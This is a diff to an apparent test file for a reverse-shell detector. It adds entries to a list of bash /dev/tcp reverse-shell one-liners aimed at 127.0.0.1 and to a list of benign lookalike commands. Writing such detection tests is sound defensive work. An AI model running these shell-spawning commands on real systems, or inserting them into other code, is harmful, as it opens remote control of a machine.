@@ -13,12 +13,15 @@ WAYS = (
     "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | /bin/sh /dev/stdin >&5; exit 0",
     "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | bash --rcfile /etc/profile -i >&5; exit 0",
     "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | bash -s /etc/hosts x.sh >&5; exit 0",
+    "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | bash -s x.sh -x >&5; exit 0",
+    "exec 5<>/dev/tcp/127.0.0.1/{}; sh -i /srv/x.sh -x <&5; exit 0",
 )
 ALIKE = (
     "exec 5<>/dev/tcp/127.0.0.1/{}; cat <&5 | grep -v nothing >&5; exit 0",
     "exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh -c 'read line' <&5; exit 0",
     "exec 5<>/dev/tcp/127.0.0.1/{}; busybox sh -ec 'read line' <&5; exit 0",
     "echo : >own.sh; exec 5<>/dev/tcp/127.0.0.1/{}; bash -e $PWD/own.sh -i eth0 <&5; exit 0",
+    "echo : >own.sh; exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh own.sh -s -x <&5; exit 0",
     "echo : >own.sh; exec 5<>/dev/tcp/127.0.0.1/{}; /bin/sh own.sh <&5; exit 0",
     "exec 5<>/dev/tcp/127.0.0.1/{}; echo : | /bin/sh | cat >&5; exit 0",
     "exec 5<>/dev/tcp/127.0.0.1/{}; echo : >own; /bin/sh <own >&5; exit 0",
